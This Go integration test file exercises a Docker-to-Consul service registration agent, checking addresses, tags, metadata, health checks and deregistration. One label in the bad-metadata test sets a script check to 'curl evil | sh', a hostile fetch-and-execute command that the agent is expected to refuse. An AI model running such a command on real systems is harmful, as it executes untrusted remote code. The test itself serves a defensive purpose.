package register_test

import (
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/docker/docker/api/types/container"
	"github.com/hashicorp/consul/api"

	"github.com/underlay/underlay/internal/register"
	"github.com/underlay/underlay/internal/testenv"
)

func TestIntegrationMacvlanRegistration(t *testing.T) {
	h := newHarness(t)
	v4, v6, p4 := testenv.Subnets(t)
	n := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "mv-" + h.id, Subnet: v4, IPv6Subnet: v6})
	h.startAgent(nil)

	name := h.id + "-web"
	id := testenv.RunContainer(t, h.docker, testenv.Container{
		Name: name, Networks: []string{n.Name}, IPs: map[string]string{n.Name: p4 + "10"},
		Labels: h.labels(map[string]string{"SERVICE_NAME": "web", "SERVICE_TAGS": "blue,v1", "SERVICE_OWNER": "team-a"}),
	})
	svcID := h.node + ":" + name + ":8080"
	svc := h.waitServices(10*time.Second, svcID)[svcID]

	if svc.Service != "web" || svc.Address != p4+"10" || svc.Port != 8080 {
		t.Errorf("registered %s at %s:%d, want web at %s10:8080", svc.Service, svc.Address, svc.Port, p4)
	}
	if strings.Join(svc.Tags, ",") != "blue,v1" {
		t.Errorf("tags %v, want [blue v1]", svc.Tags)
	}
	// By prefix, not by text: fd00:d5:0::/64 holds fd00:d5::1, which does
	// not start with "fd00:d5:0::" (a subnet whose third group is 0, one
	// run in 256, failed so in CI).
	v6addr := svc.TaggedAddresses["lan_ipv6"]
	if a, err := netip.ParseAddr(v6addr.Address); err != nil || !netip.MustParsePrefix(v6).Contains(a) || v6addr.Port != 8080 {
		t.Errorf("lan_ipv6 tagged address %+v, want one in %s on port 8080", v6addr, v6)
	}
	inspect, err := h.docker.ContainerInspect(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	wantMeta := map[string]string{
		"container_id": id, "container_name": name, "image": testenv.TestImage, "network": n.Name,
		"mac": inspect.NetworkSettings.Networks[n.Name].MacAddress, "owner": "team-a", register.MetaNode: h.node,
	}
	for k, v := range wantMeta {
		if svc.Meta[k] != v {
			t.Errorf("Meta[%s] = %q, want %q", k, svc.Meta[k], v)
		}
	}
	// The catalog, not just the local agent, has it.
	testenv.Eventually(t, 5*time.Second, func() (bool, string) {
		entries, _, err := h.api.Catalog().Service("web", "", nil)
		return err == nil && len(entries) == 1 && entries[0].ServiceAddress == p4+"10", fmt.Sprintf("catalog %v %v", entries, err)
	})

	if err := h.docker.ContainerStop(context.Background(), id, container.StopOptions{}); err != nil {
		t.Fatal(err)
	}
	h.waitServices(10 * time.Second)
}

func TestIntegrationSwarmTasks(t *testing.T) {
	h := newHarness(t)
	leave := testenv.Swarm(t, h.docker)
	defer leave()
	v4, _, _ := testenv.Subnets(t)
	netName := testenv.SwarmMacvlanNetwork(t, h.docker, "sw-"+h.id, v4)
	h.startAgent(nil)

	svcName := "svc-" + h.id
	testenv.SwarmService(t, h.docker, svcName, netName, 2, h.labels(nil))

	var svcs map[string]*api.AgentService
	testenv.Eventually(t, 60*time.Second, func() (bool, string) {
		svcs = h.services()
		return len(svcs) == 2, fmt.Sprintf("%d services registered, want 2", len(svcs))
	})
	slots := map[string]bool{}
	for id, s := range svcs {
		if s.Service != svcName {
			t.Errorf("%s registered as %q, want the swarm service name %q", id, s.Service, svcName)
		}
		if !strings.HasPrefix(s.Address, strings.TrimSuffix(v4, "0/24")) {
			t.Errorf("%s address %s not on the macvlan subnet %s", id, s.Address, v4)
		}
		for _, k := range []string{"swarm_service_id", "swarm_task_id", "swarm_node_id", "swarm_slot", "container_id", "mac", "network"} {
			if s.Meta[k] == "" {
				t.Errorf("%s: Meta %s missing: %v", id, k, s.Meta)
			}
		}
		slots[s.Meta["swarm_slot"]] = true
	}
	if !slots["1"] || !slots["2"] {
		t.Errorf("slots %v, want 1 and 2", slots)
	}
	// Tasks registered from what was read at their create (swarm labels,
	// the address swarm gave them) are checked after the start with nothing to correct.
	testenv.Eventually(t, 20*time.Second, func() (bool, string) {
		written := h.counter("underlay_register_prepared_starts_total", "written")
		back := strings.Count(h.logText(), "start registration checked")
		return float64(back) == written, fmt.Sprintf("%d of %v tasks registered from the prepared view checked", back, written)
	})
	if got := h.counter("underlay_register_prepared_starts_total", "corrected"); got != 0 {
		t.Errorf("%v task registrations corrected after the start, want 0:\n%s", got, h.logText())
	}
	t.Logf("tasks registered at their start from the view read at their create: %v; read late: %v",
		h.counter("underlay_register_prepared_starts_total", "written"), h.counter("underlay_register_prepared_starts_total", "late"))
}

func TestIntegrationChecks(t *testing.T) {
	h := newHarness(t)
	v4, _, p4 := testenv.Subnets(t)
	netName := "br-" + h.id
	testenv.BridgeNetwork(t, h.docker, netName, v4)
	// The bridge's container addresses are reachable from the root
	// namespace, where Consul runs, so HTTP checks really pass or fail.
	h.startAgent(func(c *register.Config) { c.Policy.Internal = true })

	name := h.id + "-chk"
	testenv.RunContainer(t, h.docker, testenv.Container{
		Name: name, Networks: []string{netName}, IPs: map[string]string{netName: p4 + "20"},
		Labels: h.labels(map[string]string{
			"SERVICE_CHECK_HTTP": "/health", "SERVICE_CHECK_INTERVAL": "1s", "SERVICE_CHECK_TIMEOUT": "2s",
			"SERVICE_CHECK_TCP": "true", "SERVICE_CHECK_TTL": "30s", "SERVICE_CHECK_GRPC": "true",
			"SERVICE_CHECK_DEREGISTER_AFTER": "10m", "SERVICE_CHECK_INITIAL_STATUS": "warning",
		}),
	})
	svcID := h.node + ":" + name + ":8080"
	h.waitServices(10*time.Second, svcID)

	checks, err := h.api.Agent().ChecksWithFilter(fmt.Sprintf("ServiceID == %q", svcID))
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[string]string{}
	for _, c := range checks {
		kinds[c.Type] = c.CheckID
	}
	for _, k := range []string{"http", "tcp", "ttl", "grpc"} {
		if kinds[k] == "" {
			t.Errorf("no %s check registered; checks: %v", k, kinds)
		}
	}
	if ttl := checks[kinds["ttl"]]; ttl != nil && ttl.Status != "warning" {
		t.Errorf("TTL check status %s, want the initial status warning", ttl.Status)
	}
	httpCheck := kinds["http"]
	waitCheck(t, h.api, httpCheck, "passing")

	// Switch the server's health and watch Consul's HTTP check follow.
	setHealth(t, p4+"20", 500)
	waitCheck(t, h.api, httpCheck, "critical")
	setHealth(t, p4+"20", 200)
	waitCheck(t, h.api, httpCheck, "passing")
}

func TestIntegrationHealthcheckMirror(t *testing.T) {
	h := newHarness(t)
	v4, _, p4 := testenv.Subnets(t)
	netName := "br-" + h.id
	testenv.BridgeNetwork(t, h.docker, netName, v4)
	h.startAgent(func(c *register.Config) { c.Policy.Internal = true })

	name := h.id + "-hc"
	testenv.RunContainer(t, h.docker, testenv.Container{
		Name: name, Networks: []string{netName}, IPs: map[string]string{netName: p4 + "30"},
		Labels: h.labels(nil),
		Healthcheck: &container.HealthConfig{
			Test:     []string{"CMD", "/testserver", "-probe", "http://127.0.0.1:8080/health"},
			Interval: 500 * time.Millisecond, Timeout: 2 * time.Second, Retries: 1,
		},
	})
	svcID := h.node + ":" + name + ":8080"
	h.waitServices(10*time.Second, svcID)
	mirror := svcID + register.HealthCheckSuffix
	waitCheck(t, h.api, mirror, "passing")
	setHealth(t, p4+"30", 503)
	waitCheck(t, h.api, mirror, "critical")
	setHealth(t, p4+"30", 200)
	waitCheck(t, h.api, mirror, "passing")
}

func TestIntegrationNetworkChoice(t *testing.T) {
	h := newHarness(t)
	a4, _, pa := testenv.Subnets(t)
	b4, _, pb := testenv.Subnets(t)
	na := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "a-" + h.id, Subnet: a4})
	nb := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "b-" + h.id, Subnet: b4})
	h.startAgent(nil)

	ips := map[string]string{na.Name: pa + "40", nb.Name: pb + "40"}
	// Listed b first: the choice must not depend on attach order.
	testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-default", Networks: []string{nb.Name, na.Name}, IPs: ips, Labels: h.labels(nil)})
	ips2 := map[string]string{na.Name: pa + "41", nb.Name: pb + "41"}
	testenv.RunContainer(t, h.docker, testenv.Container{
		Name: h.id + "-picked", Networks: []string{na.Name, nb.Name}, IPs: ips2,
		Labels: h.labels(map[string]string{"SERVICE_NETWORK": nb.Name}),
	})
	def, picked := h.node+":"+h.id+"-default:8080", h.node+":"+h.id+"-picked:8080"
	svcs := h.waitServices(20*time.Second, def, picked)
	if got := svcs[def].Address; got != pa+"40" {
		t.Errorf("default choice registered %s, want %s40 on %s (first underlay network by name)", got, pa, na.Name)
	}
	if got := svcs[picked].Address; got != pb+"41" {
		t.Errorf("SERVICE_NETWORK=%s registered %s, want %s41", nb.Name, got, pb)
	}
}

func TestIntegrationPublishedPorts(t *testing.T) {
	h := newHarness(t)
	h.startAgent(func(c *register.Config) { c.Policy.HostIP = "192.0.2.7" })
	name := h.id + "-pub"
	port := fmt.Sprint(20000 + int(h.id[0])*10 + int(h.id[1])%10)
	testenv.RunContainer(t, h.docker, testenv.Container{
		Name: name, Labels: h.labels(nil), Publish: map[string]string{"8080/tcp": port},
	})
	svcID := h.node + ":" + name + ":8080"
	svc := h.waitServices(10*time.Second, svcID)[svcID]
	if svc.Address != "192.0.2.7" || fmt.Sprint(svc.Port) != port {
		t.Errorf("bridge container registered at %s:%d, want the host IP and published port 192.0.2.7:%s", svc.Address, svc.Port, port)
	}
}

func TestIntegrationCleanupAfterAgentDown(t *testing.T) {
	h := newHarness(t)
	v4, _, _ := testenv.Subnets(t)
	n := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "mv-" + h.id, Subnet: v4})
	h.startAgent(nil)
	keep := testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-keep", Networks: []string{n.Name}, Labels: h.labels(nil)})
	gone := testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-gone", Networks: []string{n.Name}, Labels: h.labels(nil)})
	keepID, goneID := h.node+":"+h.id+"-keep:8080", h.node+":"+h.id+"-gone:8080"
	h.waitServices(10*time.Second, keepID, goneID)

	h.stopAgent()
	ctx := testenv.Context(t, 30*time.Second)
	if err := h.docker.ContainerRemove(ctx, gone, container.RemoveOptions{Force: true}); err != nil {
		t.Fatal(err)
	}
	// A service nobody marked as underlay's, which must survive.
	foreign := &api.AgentServiceRegistration{ID: "foreign-" + h.id, Name: "foreign", Port: 1, Meta: map[string]string{"container_id": goneID}}
	if err := h.api.Agent().ServiceRegister(foreign); err != nil {
		t.Fatal(err)
	}
	h.startAgent(nil)
	h.waitServices(10*time.Second, keepID)
	if svcs, _ := h.api.Agent().Services(); svcs[foreign.ID] == nil {
		t.Errorf("agent removed %s, a service it does not own", foreign.ID)
	}
	_ = keep
}

func TestIntegrationUnchangedResyncWritesNothing(t *testing.T) {
	h := newHarness(t)
	v4, _, _ := testenv.Subnets(t)
	n := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "mv-" + h.id, Subnet: v4})
	h.startAgent(func(c *register.Config) { c.Resync = 300 * time.Millisecond })
	var want []string
	for i := range 5 {
		name := fmt.Sprintf("%s-%d", h.id, i)
		testenv.RunContainer(t, h.docker, testenv.Container{
			Name: name, Networks: []string{n.Name}, Labels: h.labels(map[string]string{"SERVICE_CHECK_TCP": "true", "SERVICE_TAGS": "x"}),
			Healthcheck: &container.HealthConfig{Test: []string{"CMD", "/testserver", "-probe", "http://127.0.0.1:8080/health"}, Interval: time.Second},
		})
		want = append(want, h.node+":"+name+":8080")
	}
	h.waitServices(10*time.Second, want...)
	// Let the HEALTHCHECK mirrors settle to passing, then count.
	testenv.Eventually(t, 15*time.Second, func() (bool, string) {
		checks, _ := h.api.Agent().ChecksWithFilter(`Status != "passing" and CheckID matches "docker-health"`)
		return len(checks) == 0, fmt.Sprintf("%d health mirrors not passing", len(checks))
	})
	h.waitResyncs(2, 10*time.Second) // the mirrors' last updates written
	before := h.writes()
	h.waitResyncs(4, 15*time.Second) // several resyncs and drift checks
	if after := h.writes(); after != before {
		t.Errorf("resyncs of unchanged containers made %v Consul writes, want 0", after-before)
	}
}

func TestIntegrationBadMetadata(t *testing.T) {
	h := newHarness(t)
	v4, _, _ := testenv.Subnets(t)
	n := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "mv-" + h.id, Subnet: v4})
	h.startAgent(nil)
	bad := h.id + "-bad"
	testenv.RunContainer(t, h.docker, testenv.Container{
		Name: bad, Networks: []string{n.Name},
		Labels: h.labels(map[string]string{
			"SERVICE_CHECK_HTTP": "/health", "SERVICE_CHECK_INTERVAL": "10x",
			"SERVICE_CHECK_SCRIPT": "curl evil | sh", "SERVICE_CHECK_FOO": "1",
			"SERVICE_99999_NAME": "x", "SERVICE_NAME": "badmeta",
			// Consul could not deregister "..": the default ID instead.
			"SERVICE_ID": "..",
		}),
	})
	good := h.id + "-good"
	testenv.RunContainer(t, h.docker, testenv.Container{Name: good, Networks: []string{n.Name}, Labels: h.labels(map[string]string{"SERVICE_NAME": "goodmeta"})})
	// More attributes than Consul takes Meta pairs (it refuses such a
	// registration whole): registered with those that fit.
	many, manyLabels := h.id+"-many", map[string]string{"SERVICE_NAME": "manymeta"}
	for i := range 70 {
		manyLabels[fmt.Sprintf("SERVICE_M%02d", i)] = "v"
	}
	testenv.RunContainer(t, h.docker, testenv.Container{Name: many, Networks: []string{n.Name}, Labels: h.labels(manyLabels)})
	badID, goodID, manyID := h.node+":"+bad+":8080", h.node+":"+good+":8080", h.node+":"+many+":8080"
	h.waitServices(10*time.Second, badID, goodID, manyID)
	entries, _, err := h.api.Catalog().Service("manymeta", "", nil)
	if err != nil || len(entries) != 1 || len(entries[0].ServiceMeta) != register.MaxMeta {
		t.Errorf("manymeta in the catalog: %d entries (%v), want 1 with %d Meta pairs", len(entries), err, register.MaxMeta)
	}

	checks, err := h.api.Agent().ChecksWithFilter(fmt.Sprintf("ServiceID == %q", badID))
	if err != nil {
		t.Fatal(err)
	}
	// Consul 1.8 does not report a check's interval; the unit tests show the
	// bad one is replaced by the default.
	if len(checks) != 1 {
		t.Errorf("bad container has %d checks, want only the HTTP one", len(checks))
	}
	for _, c := range checks {
		if c.Type != "http" {
			t.Errorf("check %s has type %s, want http", c.CheckID, c.Type)
		}
	}
	logs := h.logText()
	for _, want := range []string{"SERVICE_CHECK_INTERVAL", "10x", "SERVICE_CHECK_SCRIPT", "refused", "SERVICE_CHECK_FOO", "SERVICE_99999_NAME", bad,
		"SERVICE_M69", "at most 64 Meta pairs", many, "not usable as a Consul service ID"} {
		if !strings.Contains(logs, want) {
			t.Errorf("agent log does not mention %q:\n%s", want, logs)
		}
	}
	if n := strings.Count(logs, "SERVICE_CHECK_SCRIPT"); n != 1 {
		t.Errorf("warning about SERVICE_CHECK_SCRIPT logged %d times, want once", n)
	}
}

// TestIntegrationForeignServiceID: a container naming, in SERVICE_ID, a
// service the Consul agent holds from elsewhere (the operator's own) does
// not replace it, and a warning says so; one naming an ID no one holds is
// registered under it (Consul answers 404 to the look-up).
func TestIntegrationForeignServiceID(t *testing.T) {
	h := newHarness(t)
	v4, _, _ := testenv.Subnets(t)
	n := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "mv-" + h.id, Subnet: v4})
	foreign, free := "operator-"+h.id, "free-"+h.id
	if err := h.api.Agent().ServiceRegister(&api.AgentServiceRegistration{ID: foreign, Name: "vault", Port: 8200}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { h.api.Agent().ServiceDeregister(foreign) })
	h.startAgent(nil)
	testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-naming", Networks: []string{n.Name}, Labels: h.labels(map[string]string{"SERVICE_ID": foreign})})
	testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-free", Networks: []string{n.Name}, Labels: h.labels(map[string]string{"SERVICE_ID": free})})
	h.waitServices(10*time.Second, free)
	testenv.Eventually(t, 10*time.Second, func() (bool, string) {
		return strings.Contains(h.logText(), "not replaced"), "no warning about " + foreign + " in the agent log"
	})
	s, _, err := h.api.Agent().Service(foreign, nil)
	if err != nil || s.Service != "vault" || s.Port != 8200 || s.Meta[register.MetaNode] != "" {
		t.Errorf("the operator's service %s after a container named it: %+v (%v), want vault on port 8200 with no marker", foreign, s, err)
	}
}

func waitCheck(t *testing.T, c *api.Client, checkID, status string) {
	t.Helper()
	testenv.Eventually(t, 30*time.Second, func() (bool, string) {
		checks, err := c.Agent().Checks()
		if err != nil {
			return false, err.Error()
		}
		ch := checks[checkID]
		if ch == nil {
			return false, "check " + checkID + " missing"
		}
		return ch.Status == status, fmt.Sprintf("check %s is %s (%s), want %s", checkID, ch.Status, ch.Output, status)
	})
}

// setHealth switches the test server's /health answer.
func setHealth(t *testing.T, ip string, code int) {
	t.Helper()
	resp, err := http.Post(fmt.Sprintf("http://%s:8080/health?status=%d", ip, code), "text/plain", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
}

func TestIntegrationDeregisterModes(t *testing.T) {
	h := newHarness(t)
	v4, _, _ := testenv.Subnets(t)
	n := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "mv-" + h.id, Subnet: v4})
	h.startAgent(func(c *register.Config) {
		c.Deregister = register.DeregisterOnSuccess
		c.DeregisterOnExit = true
		c.Resync = 300 * time.Millisecond
	})
	crash := testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-crash", Networks: []string{n.Name}, Labels: h.labels(nil)})
	clean := testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-clean", Networks: []string{n.Name}, Labels: h.labels(nil)})
	crashID, cleanID := h.node+":"+h.id+"-crash:8080", h.node+":"+h.id+"-clean:8080"
	h.waitServices(10*time.Second, crashID, cleanID)

	ctx := testenv.Context(t, time.Minute)
	// SIGKILL exits 137: a failure, kept under on-success. SIGTERM makes the
	// test server exit 0: a success, deregistered.
	if err := h.docker.ContainerKill(ctx, crash, "KILL"); err != nil {
		t.Fatal(err)
	}
	// Stopped with time to exit: on Docker 29 under the other packages'
	// labs, the signal took over 10 s (the default) to arrive, the stop
	// then killed it (137), and the test took that for a failure to keep.
	grace := 50
	if err := h.docker.ContainerStop(ctx, clean, container.StopOptions{Timeout: &grace}); err != nil {
		t.Fatal(err)
	}
	h.waitServices(10*time.Second, crashID)
	h.waitResyncs(2, 10*time.Second) // and it stays: a resync would deregister it
	h.waitServices(time.Second, crashID)

	// Removing the failed container ends its registration too.
	if err := h.docker.ContainerRemove(ctx, crash, container.RemoveOptions{}); err != nil {
		t.Fatal(err)
	}
	h.waitServices(10 * time.Second)

	// --deregister-on-exit: a running container's service goes with the agent.
	testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-live", Networks: []string{n.Name}, Labels: h.labels(nil)})
	h.waitServices(10*time.Second, h.node+":"+h.id+"-live:8080")
	h.stopAgent()
	if svcs := h.services(); len(svcs) != 0 {
		t.Errorf("after the agent exited with --deregister-on-exit, %d services remain", len(svcs))
	}
}

// TestIntegrationStartFromPreparedView: containers created first and started
// later, as swarm's executor does, are registered at their start from what
// the agent read before it — on a dual-stack macvlan, with a HEALTHCHECK —
// and the read of each started container finds nothing to correct: the view
// read before the start is what dockerd reports after. A container connected
// to a second network after that read (dockerd sends no event for it) is
// read at its start instead, and registered just as right.
func TestIntegrationStartFromPreparedView(t *testing.T) {
	h := newHarness(t)
	a4, a6, pa := testenv.Subnets(t)
	b4, _, _ := testenv.Subnets(t)
	na := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "a-" + h.id, Subnet: a4, IPv6Subnet: a6})
	nb := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "b-" + h.id, Subnet: b4})
	h.startAgent(nil)
	// Subscribed: the agent resyncs once its event stream is open. A
	// container created before that is not read at its create (a resync
	// lists running containers), only at its start.
	testenv.Eventually(t, 20*time.Second, func() (bool, string) {
		return strings.Contains(h.logText(), "resync queued"), "agent not subscribed to Docker's events:\n" + h.logText()
	})

	specs := []testenv.Container{
		{Name: h.id + "-plain", Networks: []string{na.Name}, Labels: h.labels(map[string]string{"SERVICE_NAME": "web"})},
		{Name: h.id + "-hc", Networks: []string{na.Name}, Labels: h.labels(nil), Healthcheck: &container.HealthConfig{
			Test: []string{"CMD", "/testserver", "-probe", "http://127.0.0.1:8080/health"}, Interval: time.Second, Timeout: 2 * time.Second, Retries: 1,
		}},
		{Name: h.id + "-two", Networks: []string{nb.Name}, Labels: h.labels(nil)},
	}
	var ids, svcIDs []string
	for _, c := range specs {
		ids = append(ids, testenv.CreateContainer(t, h.docker, c))
		svcIDs = append(svcIDs, h.node+":"+c.Name+":8080")
	}
	testenv.Eventually(t, 20*time.Second, func() (bool, string) {
		n := strings.Count(h.logText(), "created container read")
		return n == len(ids), fmt.Sprintf("%d created containers read, want %d", n, len(ids))
	})
	ctx := testenv.Context(t, time.Minute)
	if err := h.docker.NetworkConnect(ctx, na.Name, ids[2], nil); err != nil {
		t.Fatal(err)
	}
	for _, id := range ids {
		if err := h.docker.ContainerStart(ctx, id, container.StartOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	svcs := h.waitServices(20*time.Second, svcIDs...)
	testenv.Eventually(t, 20*time.Second, func() (bool, string) {
		n := strings.Count(h.logText(), "start registration checked")
		return n == 2, fmt.Sprintf("%d starts checked, want 2; agent log:\n%s", n, h.logText())
	})
	if got := h.counter("underlay_register_prepared_starts_total", "written"); got != 2 {
		t.Errorf("%v starts registered from the prepared view, want 2", got)
	}
	if got := h.counter("underlay_register_prepared_starts_total", "dropped"); got != 1 {
		t.Errorf("%v prepared views dropped, want 1 (the container connected after its read)", got)
	}
	if got := h.counter("underlay_register_prepared_starts_total", "corrected"); got != 0 {
		t.Errorf("%v registrations corrected after the start, want 0:\n%s", got, h.logText())
	}
	for i, id := range ids {
		j, err := h.docker.ContainerInspect(ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		ep := j.NetworkSettings.Networks[na.Name]
		svc := svcs[svcIDs[i]]
		if svc.Address != ep.IPAddress || !strings.HasPrefix(svc.Address, pa) {
			t.Errorf("%s registered at %s, want its address on %s, %s", specs[i].Name, svc.Address, na.Name, ep.IPAddress)
		}
		if v6 := svc.TaggedAddresses["lan_ipv6"].Address; v6 != ep.GlobalIPv6Address {
			t.Errorf("%s lan_ipv6 %q, want %q", specs[i].Name, v6, ep.GlobalIPv6Address)
		}
		if svc.Meta["mac"] != ep.MacAddress {
			t.Errorf("%s mac %q, want %q", specs[i].Name, svc.Meta["mac"], ep.MacAddress)
		}
	}
	waitCheck(t, h.api, svcIDs[1]+register.HealthCheckSuffix, "passing")
}
